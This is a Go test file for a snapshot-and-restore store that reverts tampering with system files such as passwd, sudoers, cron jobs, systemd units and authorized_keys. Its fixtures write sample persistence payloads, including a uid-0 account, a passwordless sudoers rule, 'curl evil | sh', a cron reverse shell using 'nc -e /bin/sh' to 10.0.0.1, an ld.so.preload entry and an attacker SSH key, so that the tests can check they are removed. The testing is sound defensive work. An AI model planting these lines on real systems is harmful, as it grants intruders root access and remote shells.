package snapshot

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// requireRoot skips a test that changes ownership when not root, except
// under CI=true, where the skip would hide the test forever.
func requireRoot(t *testing.T) {
	t.Helper()
	if os.Geteuid() == 0 {
		return
	}
	if os.Getenv("CI") == "true" {
		t.Fatal("needs root (chown to other users); CI must run it")
	}
	t.Skip("needs root (chown to other users)")
}

// write creates root/p with content and mode, making its directories.
func write(t *testing.T, root, p, content string, mode os.FileMode) {
	t.Helper()
	name := filepath.Join(root, p)
	if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(name, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(name, mode); err != nil { // past the umask
		t.Fatal(err)
	}
}

func read(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// owner returns mode & 07777, uid and gid of name, not following links.
func owner(t *testing.T, name string) (uint32, uint32, uint32) {
	t.Helper()
	var st syscall.Stat_t
	if err := syscall.Lstat(name, &st); err != nil {
		t.Fatal(err)
	}
	return st.Mode & 0o7777, st.Uid, st.Gid
}

// open opens a store in a fresh directory for root, closed at cleanup.
func open(t *testing.T, root string, opts Options) (*Store, string) {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "snapshots")
	opts.Root = root
	s, err := Open(dir, opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	return s, dir
}

func blobCount(t *testing.T, dir string) int {
	t.Helper()
	n := 0
	err := filepath.WalkDir(filepath.Join(dir, "blobs"), func(p string, d os.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			n++
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func TestRestoreTamperedPasswd(t *testing.T) {
	requireRoot(t)
	root := t.TempDir()
	orig, err := os.ReadFile("/etc/passwd")
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, "/etc/passwd", string(orig), 0o644)
	write(t, root, "/etc/sudoers", "root ALL=(ALL:ALL) ALL\n", 0o440)
	passwd := filepath.Join(root, "etc/passwd")
	if err := os.Chown(passwd, 0, 0); err != nil {
		t.Fatal(err)
	}
	s, _ := open(t, root, Options{})
	rep, err := s.TakeAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(rep.Taken, []string{"/etc/passwd", "/etc/sudoers"}) || len(rep.Skipped) != 0 {
		t.Fatalf("report %+v", rep)
	}

	// The attack: a new uid-0 account, a world-writable file, another owner.
	line := "toor:x:0:0::/root:/bin/sh\n"
	f, err := os.OpenFile(passwd, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString(line)
	f.Close()
	if err := os.Chmod(passwd, 0o666); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(passwd, 65534, 65534); err != nil {
		t.Fatal(err)
	}

	res, err := s.Restore("/etc/passwd")
	if err != nil {
		t.Fatal(err)
	}
	if got := read(t, passwd); got != string(orig) {
		t.Errorf("content after restore differs from the snapshot (%d bytes, want %d)", len(got), len(orig))
	}
	if mode, uid, gid := owner(t, passwd); mode != 0o644 || uid != 0 || gid != 0 {
		t.Errorf("after restore mode %o owner %d:%d, want 644 0:0", mode, uid, gid)
	}
	if res.Action != ActionWritten || !res.ContentChanged || !res.ModeChanged || !res.OwnerChanged {
		t.Errorf("result %+v", res)
	}
	if res.Before.Size != int64(len(orig)+len(line)) || res.After.Size != int64(len(orig)) ||
		res.Before.Mode != 0o666 || res.Before.UID != 65534 || res.After.Mode != 0o644 || res.After.UID != 0 {
		t.Errorf("before %+v after %+v", res.Before, res.After)
	}
	if want := fmt.Sprintf("restored /etc/passwd: content %d -> %d bytes, mode 0666 -> 0644, owner 65534:65534 -> 0:0", len(orig)+len(line), len(orig)); res.String() != want {
		t.Errorf("result text %q, want %q", res, want)
	}
	if res.After.Hash != res.Version.Hash || res.Before.Hash == res.Version.Hash {
		t.Errorf("hashes: before %s after %s version %s", res.Before.Hash, res.After.Hash, res.Version.Hash)
	}
	entries, _ := os.ReadDir(filepath.Join(root, "etc"))
	if len(entries) != 2 {
		t.Errorf("etc holds %d entries, want passwd and sudoers (no temporary left)", len(entries))
	}

	// Only the owner changed: the same content is written back with it.
	if err := os.Chown(passwd, 65534, 0); err != nil {
		t.Fatal(err)
	}
	res, err = s.Restore("/etc/passwd")
	if err != nil || res.ContentChanged || res.ModeChanged || !res.OwnerChanged {
		t.Fatalf("owner-only restore: %+v, %v", res, err)
	}
	// Nothing changed: nothing done.
	res, err = s.Restore("/etc/passwd")
	if err != nil || res.Action != ActionNone {
		t.Fatalf("second restore: %+v, %v", res, err)
	}

	// Setuid and setgid bits survive the chown that would clear them.
	sudoers := filepath.Join(root, "etc/sudoers")
	write(t, root, "/etc/sudoers", "ALL ALL=(ALL) NOPASSWD: ALL\n", 0o666)
	if _, err := s.Restore("/etc/sudoers"); err != nil {
		t.Fatal(err)
	}
	if mode, _, _ := owner(t, sudoers); mode != 0o440 || read(t, sudoers) != "root ALL=(ALL:ALL) ALL\n" {
		t.Errorf("sudoers mode %o content %q", mode, read(t, sudoers))
	}
}

func TestRestoreKeepsSpecialBits(t *testing.T) {
	requireRoot(t)
	root := t.TempDir()
	write(t, root, "/etc/profile.d/tool.sh", "echo hi\n", 0o6755)
	name := filepath.Join(root, "etc/profile.d/tool.sh")
	if err := os.Chown(name, 0, 65534); err != nil {
		t.Fatal(err)
	}
	// os.Chmod knows setuid only as os.ModeSetuid: the raw bits here.
	if err := syscall.Chmod(name, 0o6755); err != nil { // chown cleared them
		t.Fatal(err)
	}
	s, _ := open(t, root, Options{})
	if _, err := s.TakeAll(); err != nil {
		t.Fatal(err)
	}
	write(t, root, "/etc/profile.d/tool.sh", "curl evil | sh\n", 0o755)
	if _, err := s.Restore("/etc/profile.d/tool.sh"); err != nil {
		t.Fatal(err)
	}
	if mode, uid, gid := owner(t, name); mode != 0o6755 || uid != 0 || gid != 65534 {
		t.Errorf("mode %o owner %d:%d, want 6755 0:65534", mode, uid, gid)
	}
}

func TestRestoreRemovesAddedFile(t *testing.T) {
	root := t.TempDir()
	write(t, root, "/etc/cron.d/logrotate", "0 * * * * root logrotate\n", 0o644)
	write(t, root, "/etc/systemd/system/app.service", "[Service]\n", 0o644)
	s, _ := open(t, root, Options{})
	if _, err := s.TakeAll(); err != nil {
		t.Fatal(err)
	}

	write(t, root, "/etc/cron.d/backdoor", "* * * * * root nc -e /bin/sh 10.0.0.1 4444\n", 0o644)
	write(t, root, "/etc/systemd/system/evil.service", "[Service]\nExecStart=/tmp/x\n", 0o644)
	write(t, root, "/etc/ld.so.preload", "/tmp/libevil.so\n", 0o644)
	for _, p := range []string{"/etc/cron.d/backdoor", "/etc/systemd/system/evil.service", "/etc/ld.so.preload"} {
		if !s.Known(p) || len(s.Versions(p)) != 0 {
			t.Errorf("%s: known %v, versions %v; want known through the sweep, no version", p, s.Known(p), s.Versions(p))
		}
		res, err := s.Restore(p)
		if err != nil {
			t.Fatalf("restore %s: %v", p, err)
		}
		if !strings.HasPrefix(res.String(), "removed "+p+" (file, ") {
			t.Errorf("result text %q", res)
		}
		if res.Action != ActionRemoved || res.Before.Kind != KindFile || res.After.Kind != KindAbsent || !res.Version.Absent {
			t.Errorf("%s: result %+v", p, res)
		}
		if _, err := os.Lstat(filepath.Join(root, p)); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s still there: %v", p, err)
		}
	}
	if read(t, filepath.Join(root, "etc/cron.d/logrotate")) != "0 * * * * root logrotate\n" {
		t.Error("the kept cron file changed")
	}

	// A kept file removed legitimately, then TakeAll: an explicit absent
	// version; a file put back later is removed by Restore.
	os.Remove(filepath.Join(root, "etc/cron.d/logrotate"))
	rep, err := s.TakeAll()
	if err != nil || !slices.Equal(rep.Taken, []string{"/etc/cron.d/logrotate"}) {
		t.Fatalf("report %+v, %v", rep, err)
	}
	vs := s.Versions("/etc/cron.d/logrotate")
	if len(vs) != 2 || !vs[1].Absent {
		t.Fatalf("versions %+v", vs)
	}
	write(t, root, "/etc/cron.d/logrotate", "evil\n", 0o644)
	if res, err := s.Restore("/etc/cron.d/logrotate"); err != nil || res.Action != ActionRemoved {
		t.Fatalf("restore: %+v, %v", res, err)
	}

	// Take of a path that does not exist records it absent.
	if err := s.Take("/etc/cron.d/never"); err != nil {
		t.Fatal(err)
	}
	if vs := s.Versions("/etc/cron.d/never"); len(vs) != 1 || !vs[0].Absent {
		t.Errorf("versions %+v", vs)
	}
	// Restoring an absent path that is still absent does nothing.
	if res, err := s.Restore("/etc/cron.d/never"); err != nil || res.Action != ActionNone {
		t.Errorf("restore absent: %+v, %v", res, err)
	}
}

func TestRestoreReplacesSymlinkedFile(t *testing.T) {
	root := t.TempDir()
	write(t, root, "/etc/passwd", "root:x:0:0::/root:/bin/sh\n", 0o644)
	write(t, root, "/decoy", "decoy content\n", 0o600)
	s, _ := open(t, root, Options{})
	if _, err := s.TakeAll(); err != nil {
		t.Fatal(err)
	}
	passwd := filepath.Join(root, "etc/passwd")
	decoy := filepath.Join(root, "decoy")
	os.Remove(passwd)
	if err := os.Symlink(decoy, passwd); err != nil {
		t.Fatal(err)
	}

	res, err := s.Restore("/etc/passwd")
	if err != nil {
		t.Fatal(err)
	}
	if got := read(t, decoy); got != "decoy content\n" {
		t.Errorf("restore wrote through the symlink: decoy holds %q", got)
	}
	if mode, _, _ := owner(t, decoy); mode != 0o600 {
		t.Errorf("decoy mode %o, want 600", mode)
	}
	st, err := os.Lstat(passwd)
	if err != nil || !st.Mode().IsRegular() || read(t, passwd) != "root:x:0:0::/root:/bin/sh\n" {
		t.Fatalf("passwd after restore: %v, %v", st.Mode(), err)
	}
	if res.Before.Kind != KindSymlink || res.Before.Link != decoy || res.After.Kind != KindFile || !res.ContentChanged {
		t.Errorf("result %+v", res)
	}

	// The same for a symlink to a real system file: never written.
	hostname, err := os.ReadFile("/etc/hostname")
	if err == nil {
		os.Remove(passwd)
		os.Symlink("/etc/hostname", passwd)
		if _, err := s.Restore("/etc/passwd"); err != nil {
			t.Fatal(err)
		}
		if now, _ := os.ReadFile("/etc/hostname"); !bytes.Equal(now, hostname) {
			t.Fatal("/etc/hostname changed")
		}
	}
}

func TestRestoreRefusesSymlinkedDirectory(t *testing.T) {
	root := t.TempDir()
	write(t, root, "/etc/cron.d/job", "0 0 * * * root true\n", 0o644)
	write(t, root, "/elsewhere/job", "elsewhere\n", 0o644)
	s, _ := open(t, root, Options{})
	if _, err := s.TakeAll(); err != nil {
		t.Fatal(err)
	}
	crond := filepath.Join(root, "etc/cron.d")
	if err := os.RemoveAll(crond); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(root, "elsewhere"), crond); err != nil {
		t.Fatal(err)
	}

	_, err := s.Restore("/etc/cron.d/job")
	if !errors.Is(err, ErrSymlinkDir) {
		t.Fatalf("restore through a symlinked directory: %v", err)
	}
	want := "restore /etc/cron.d/job: directory /etc/cron.d is a symbolic link: refusing to go through it"
	if err.Error() != want {
		t.Errorf("error\n %q\nwant\n %q", err, want)
	}
	if got := read(t, filepath.Join(root, "elsewhere/job")); got != "elsewhere\n" {
		t.Errorf("elsewhere/job changed: %q", got)
	}

	// TakeAll does not read through it either: skipped, and Restore then
	// refuses as not kept.
	rep, err := s.TakeAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Skipped) != 1 || rep.Skipped[0].Path != "/etc/cron.d/job" || !errors.Is(rep.Skipped[0].Err, ErrSymlinkDir) {
		t.Fatalf("report %+v", rep)
	}
	if _, err := s.Restore("/etc/cron.d/job"); !errors.Is(err, ErrNotKept) ||
		err.Error() != "restore /etc/cron.d/job: last snapshot was skipped (directory /etc/cron.d is a symbolic link: refusing to go through it)" {
		t.Errorf("restore unkept: %v", err)
	}
	if s.Known("/etc/cron.d/job") {
		t.Error("Known is true for a path whose last snapshot was skipped")
	}
}

func TestSymlinkVersion(t *testing.T) {
	root := t.TempDir()
	unit := filepath.Join(root, "etc/systemd/system/sshd.service")
	os.MkdirAll(filepath.Dir(unit), 0o755)
	if err := os.Symlink("/lib/systemd/system/ssh.service", unit); err != nil {
		t.Fatal(err)
	}
	s, _ := open(t, root, Options{})
	if rep, err := s.TakeAll(); err != nil || !slices.Equal(rep.Taken, []string{"/etc/systemd/system/sshd.service"}) {
		t.Fatalf("report %+v, %v", rep, err)
	}
	os.Remove(unit)
	os.Symlink("/tmp/evil.service", unit)
	res, err := s.Restore("/etc/systemd/system/sshd.service")
	if err != nil {
		t.Fatal(err)
	}
	if got, _ := os.Readlink(unit); got != "/lib/systemd/system/ssh.service" {
		t.Errorf("link points to %q", got)
	}
	if res.Before.Link != "/tmp/evil.service" || res.After.Link != "/lib/systemd/system/ssh.service" || res.Action != ActionWritten {
		t.Errorf("result %+v", res)
	}
	// A regular file put in the link's place is replaced by the link.
	os.Remove(unit)
	write(t, root, "/etc/systemd/system/sshd.service", "[Service]\nExecStart=/tmp/x\n", 0o644)
	if _, err := s.Restore("/etc/systemd/system/sshd.service"); err != nil {
		t.Fatal(err)
	}
	if got, _ := os.Readlink(unit); got != "/lib/systemd/system/ssh.service" {
		t.Errorf("link points to %q", got)
	}
}

func TestVersionLimitAndGC(t *testing.T) {
	root := t.TempDir()
	s, dir := open(t, root, Options{Paths: []string{"/etc/motd"}, MaxVersions: 2})
	for i, c := range []string{"one\n", "two\n", "three\n", "four\n"} {
		write(t, root, "/etc/motd", c, 0o644)
		if err := s.Take("/etc/motd"); err != nil {
			t.Fatal(err)
		}
		if err := s.Take("/etc/motd"); err != nil { // unchanged: no new version
			t.Fatal(err)
		}
		if n := len(s.Versions("/etc/motd")); n != min(i+1, 2) {
			t.Fatalf("after %d changes: %d versions", i+1, n)
		}
	}
	vs := s.Versions("/etc/motd")
	if vs[0].Size != int64(len("three\n")) || vs[1].Size != int64(len("four\n")) {
		t.Errorf("versions %+v", vs)
	}
	if n := blobCount(t, dir); n != 2 {
		t.Errorf("%d blobs on disk, want 2 (the dropped versions' blobs removed)", n)
	}
	// The same content twice shares one blob; a mode change is a version.
	if err := os.Chmod(filepath.Join(root, "etc/motd"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := s.Take("/etc/motd"); err != nil {
		t.Fatal(err)
	}
	vs = s.Versions("/etc/motd")
	if len(vs) != 2 || vs[0].Hash != vs[1].Hash || vs[0].Mode != 0o644 || vs[1].Mode != 0o600 {
		t.Errorf("versions %+v", vs)
	}
	if n := blobCount(t, dir); n != 1 {
		t.Errorf("%d blobs on disk, want 1", n)
	}

	// An older version by hash.
	write(t, root, "/etc/motd", "five\n", 0o644)
	if err := s.Take("/etc/motd"); err != nil {
		t.Fatal(err)
	}
	old := s.Versions("/etc/motd")[0]
	res, err := s.RestoreVersion("/etc/motd", old.Hash)
	if err != nil || read(t, filepath.Join(root, "etc/motd")) != "four\n" || res.After.Mode != 0o600 {
		t.Fatalf("restore version: %+v, %v", res, err)
	}
	if _, err := s.RestoreVersion("/etc/motd", "00"); err == nil || err.Error() != "restore /etc/motd: version 00: no snapshot of this path" {
		t.Errorf("unknown version: %v", err)
	}
}

func TestSizeLimits(t *testing.T) {
	root := t.TempDir()
	write(t, root, "/etc/small", strings.Repeat("s", 16), 0o644)
	write(t, root, "/etc/big", strings.Repeat("b", 17), 0o644)
	s, _ := open(t, root, Options{Paths: []string{"/etc/small", "/etc/big"}, MaxFileSize: 16})
	rep, err := s.TakeAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(rep.Taken, []string{"/etc/small"}) || len(rep.Skipped) != 1 ||
		rep.Skipped[0].Path != "/etc/big" || !errors.Is(rep.Skipped[0].Err, ErrTooLarge) {
		t.Fatalf("report %+v", rep)
	}
	err = s.Take("/etc/big")
	if want := "take /etc/big: file too large: 17 bytes, limit 16"; err == nil || err.Error() != want {
		t.Errorf("take big: %v, want %q", err, want)
	}
	if _, err := s.Restore("/etc/big"); !errors.Is(err, ErrNotKept) {
		t.Errorf("restore big: %v", err)
	}
	// A kept file that grew over the limit: its known-good state is no
	// longer known, so Restore refuses rather than roll it back blindly.
	write(t, root, "/etc/small", strings.Repeat("s", 40), 0o644)
	if _, err := s.TakeAll(); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Restore("/etc/small"); !errors.Is(err, ErrNotKept) {
		t.Errorf("restore grown: %v", err)
	}
	if len(s.Versions("/etc/small")) != 1 {
		t.Error("the old version was dropped")
	}
}

func TestTotalSizeBound(t *testing.T) {
	root := t.TempDir()
	s, dir := open(t, root, Options{Paths: []string{"/etc/a", "/etc/b"}, MaxTotalSize: 100})
	base := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	tick := 0
	s.now = func() time.Time { tick++; return base.Add(time.Duration(tick) * time.Minute) }
	write(t, root, "/etc/a", strings.Repeat("a", 40), 0o644)
	write(t, root, "/etc/b", strings.Repeat("b", 40), 0o644)
	if _, err := s.TakeAll(); err != nil {
		t.Fatal(err)
	}
	write(t, root, "/etc/a", strings.Repeat("A", 40), 0o644)
	if _, err := s.TakeAll(); err != nil {
		t.Fatal(err)
	}
	// 120 bytes would not fit: the oldest non-latest version (a's first) goes.
	if vs := s.Versions("/etc/a"); len(vs) != 1 || s.total != 80 || blobCount(t, dir) != 2 {
		t.Errorf("a has %d versions, %d bytes in %d blobs", len(vs), s.total, blobCount(t, dir))
	}
	// 61 bytes next to two latest versions of 40: nothing can make room.
	write(t, root, "/etc/b", strings.Repeat("B", 61), 0o644)
	err := s.Take("/etc/b")
	if want := "take /etc/b: snapshot store full: 61 bytes more would exceed 100"; err == nil || err.Error() != want {
		t.Errorf("take: %v, want %q", err, want)
	}
	if len(s.Versions("/etc/a")) != 1 || len(s.Versions("/etc/b")) != 1 {
		t.Error("versions dropped for a blob that did not fit anyway")
	}
}

func TestDamagedIndex(t *testing.T) {
	root := t.TempDir()
	write(t, root, "/etc/group", "root:x:0:\n", 0o644)
	dir := filepath.Join(t.TempDir(), "snapshots")
	s, err := Open(dir, Options{Root: root})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.TakeAll(); err != nil {
		t.Fatal(err)
	}
	s.Close()
	index := filepath.Join(dir, "index.json")
	if err := os.WriteFile(index, []byte(`{"format":1,"paths":{"/etc/gr`), 0o600); err != nil {
		t.Fatal(err)
	}

	s, err = Open(dir, Options{Root: root})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Damage(); !errors.Is(err, ErrIndexDamaged) || !strings.Contains(err.Error(), "index.json.damaged") {
		t.Errorf("damage: %v", err)
	}
	if s.Known("/etc/group") || s.Versions("/etc/group") != nil {
		t.Error("versions survived a damaged index")
	}
	if read(t, index+".damaged") != `{"format":1,"paths":{"/etc/gr` {
		t.Error("damaged index not kept aside")
	}
	if blobCount(t, dir) != 1 {
		t.Error("blobs not kept")
	}
	rep, err := s.TakeAll()
	if err != nil || !slices.Equal(rep.Taken, []string{"/etc/group"}) || blobCount(t, dir) != 1 {
		t.Fatalf("take after damage: %+v, %v, %d blobs", rep, err, blobCount(t, dir))
	}
	s.Close()

	// Reopened: the rebuilt index is whole.
	s, err = Open(dir, Options{Root: root})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if s.Damage() != nil || len(s.Versions("/etc/group")) != 1 {
		t.Errorf("after rebuild: damage %v, versions %v", s.Damage(), s.Versions("/etc/group"))
	}

	// A well-formed index with a bad entry is damaged too.
	s.Close()
	os.WriteFile(index, []byte(`{"format":1,"paths":{"/etc/group":[{"hash":"xyz","mode":420}]}}`), 0o600)
	s, err = Open(dir, Options{Root: root})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if err := s.Damage(); !errors.Is(err, ErrIndexDamaged) || !strings.Contains(err.Error(), `hash "xyz" is not a SHA-256`) {
		t.Errorf("damage: %v", err)
	}
}

func TestReopenKeepsVersions(t *testing.T) {
	root := t.TempDir()
	write(t, root, "/root/.ssh/authorized_keys", "ssh-ed25519 AAAA admin\n", 0o600)
	dir := filepath.Join(t.TempDir(), "snapshots")
	s, err := Open(dir, Options{Root: root})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.TakeAll(); err != nil {
		t.Fatal(err)
	}
	write(t, root, "/root/.ssh/authorized_keys", "ssh-ed25519 AAAA admin\nssh-ed25519 BBBB ops\n", 0o600)
	if err := s.Take("/root/.ssh/authorized_keys"); err != nil {
		t.Fatal(err)
	}
	before := s.Versions("/root/.ssh/authorized_keys")

	if _, err := Open(dir, Options{Root: root}); !errors.Is(err, ErrInUse) {
		t.Errorf("second open while held: %v", err)
	}
	s.Close()
	if _, err := s.TakeAll(); !errors.Is(err, ErrClosed) {
		t.Errorf("TakeAll after Close: %v", err)
	}

	s, err = Open(dir, Options{Root: root})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if s.Damage() != nil {
		t.Fatal(s.Damage())
	}
	after := s.Versions("/root/.ssh/authorized_keys")
	if len(after) != 2 || len(before) != 2 {
		t.Fatalf("versions before %d, after reopen %d", len(before), len(after))
	}
	for i := range after {
		if after[i].Hash != before[i].Hash || !after[i].Taken.Equal(before[i].Taken) || after[i].Mode != before[i].Mode {
			t.Errorf("version %d: %+v, want %+v", i, after[i], before[i])
		}
	}
	write(t, root, "/root/.ssh/authorized_keys", "ssh-rsa EVIL attacker\n", 0o644)
	if _, err := s.Restore("/root/.ssh/authorized_keys"); err != nil {
		t.Fatal(err)
	}
	if read(t, filepath.Join(root, "root/.ssh/authorized_keys")) != "ssh-ed25519 AAAA admin\nssh-ed25519 BBBB ops\n" {
		t.Error("restore after reopen")
	}
	// A sweep survives a restart too.
	write(t, root, "/etc/cron.d/new", "x\n", 0o644)
	if res, err := s.Restore("/etc/cron.d/new"); err != nil || res.Action != ActionRemoved {
		t.Errorf("restore added file after reopen: %+v, %v", res, err)
	}
}

func TestErrors(t *testing.T) {
	root := t.TempDir()
	write(t, root, "/etc/passwd", "root:x:0:0::/root:/bin/sh\n", 0o644)
	s, dir := open(t, root, Options{})
	for _, c := range []struct {
		err  error
		want string
		is   error
	}{
		{s.Take("/etc/hostname"), "take: /etc/hostname: not covered by the snapshot patterns", ErrNotCovered},
		{s.Take("etc/passwd"), `take: "etc/passwd" is not an absolute path`, nil},
		{second(s.Restore("/etc/passwd")), "restore /etc/passwd: no snapshot of this path", ErrNoSnapshot},
		{second(s.Restore("/tmp/x")), "restore: /tmp/x: not covered by the snapshot patterns", ErrNotCovered},
		{second(Open(dir+"2", Options{Paths: []string{"/etc/[a"}})), `open snapshot store: pattern "/etc/[a": syntax error in pattern`, nil},
		{second(Open(dir+"3", Options{Paths: []string{"etc/passwd"}})), `open snapshot store: pattern "etc/passwd" is not an absolute path`, nil},
		{second(Open(dir+"4", Options{Root: "rel"})), `open snapshot store: root "rel" is not an absolute path`, nil},
	} {
		if c.err == nil || c.err.Error() != c.want {
			t.Errorf("error %v\nwant  %s", c.err, c.want)
		}
		if c.is != nil && !errors.Is(c.err, c.is) {
			t.Errorf("%v is not %v", c.err, c.is)
		}
	}

	// Damaged content: nothing is written.
	if _, err := s.TakeAll(); err != nil {
		t.Fatal(err)
	}
	v := s.Versions("/etc/passwd")[0]
	os.WriteFile(s.blobPath(v.Hash), []byte("garbage"), 0o600)
	write(t, root, "/etc/passwd", "changed\n", 0o644)
	_, err := s.Restore("/etc/passwd")
	if want := "restore /etc/passwd: content " + v.Hash + ": stored content missing or damaged: hash mismatch"; err == nil || err.Error() != want || !errors.Is(err, ErrBlobDamaged) {
		t.Errorf("restore with a damaged blob: %v", err)
	}
	if read(t, filepath.Join(root, "etc/passwd")) != "changed\n" {
		t.Error("file written from damaged content")
	}

	// A directory where a file was is not replaced.
	os.Remove(filepath.Join(root, "etc/passwd"))
	os.Mkdir(filepath.Join(root, "etc/passwd"), 0o755)
	os.WriteFile(s.blobPath(v.Hash), []byte("root:x:0:0::/root:/bin/sh\n"), 0o600)
	if _, err := s.Restore("/etc/passwd"); !errors.Is(err, ErrIsDirectory) || err.Error() != "restore /etc/passwd: is a directory: not replaced" {
		t.Errorf("restore over a directory: %v", err)
	}
}

func second[T any](_ T, err error) error { return err }

func TestConcurrentUse(t *testing.T) {
	root := t.TempDir()
	write(t, root, "/etc/passwd", "root:x:0:0::/root:/bin/sh\n", 0o644)
	write(t, root, "/etc/group", "root:x:0:\n", 0o644)
	s, _ := open(t, root, Options{})
	if _, err := s.TakeAll(); err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	errs := make(chan error, 400)
	for g := range 2 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 100 {
				if g == 0 {
					write(t, root, "/etc/passwd", "evil\n", 0o666)
					if _, err := s.Restore("/etc/passwd"); err != nil {
						errs <- err
					}
				} else {
					if _, err := s.TakeAll(); err != nil {
						errs <- err
					}
					if err := s.Take("/etc/group"); err != nil {
						errs <- err
					}
					_ = s.Versions("/etc/group")
					_ = s.Known("/etc/cron.d/x")
					_ = i
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		// TakeAll may bless "evil" between the write and the restore; the
		// restore is then a no-op or puts "evil" back. Errors are not.
		t.Error(err)
	}
}

func TestPatterns(t *testing.T) {
	got := expandBraces("/etc/cron.{hourly,daily}/*")
	if !slices.Equal(got, []string{"/etc/cron.hourly/*", "/etc/cron.daily/*"}) {
		t.Errorf("expand: %v", got)
	}
	s, _ := open(t, t.TempDir(), Options{})
	for p, want := range map[string]bool{
		"/etc/cron.weekly/0anacron":             true,
		"/etc/cron.yearly/x":                    false,
		"/home/alice/.ssh/authorized_keys":      true,
		"/home/alice/x/.ssh/authorized_keys":    false,
		"/etc/sudoers.d/README":                 true,
		"/etc/systemd/system/x.service":         true,
		"/etc/systemd/system/a.wants/x.service": false,
		"/etc/shadow":                           true,
		"/etc/hosts":                            false,
	} {
		if s.Covers(p) != want {
			t.Errorf("Covers(%s) = %v", p, !want)
		}
	}
}

func TestTakeAllUnchanged(t *testing.T) {
	root := t.TempDir()
	write(t, root, "/etc/passwd", "root:x:0:0::/root:/bin/sh\n", 0o644)
	s, dir := open(t, root, Options{})
	if !s.LastSweep().IsZero() {
		t.Error("a new store reports a sweep")
	}
	if _, err := s.TakeAll(); err != nil {
		t.Fatal(err)
	}
	if s.LastSweep().IsZero() {
		t.Error("no sweep after TakeAll")
	}
	rep, err := s.TakeAll()
	if err != nil || len(rep.Taken) != 0 || !slices.Equal(rep.Unchanged, []string{"/etc/passwd"}) {
		t.Fatalf("second TakeAll: %+v, %v", rep, err)
	}
	if len(s.Versions("/etc/passwd")) != 1 || blobCount(t, dir) != 1 {
		t.Error("unchanged file got a new version")
	}
	mode, _, _ := owner(t, filepath.Join(dir, "blobs"))
	if mode != 0o700 {
		t.Errorf("blobs directory mode %o, want 700", mode)
	}
}
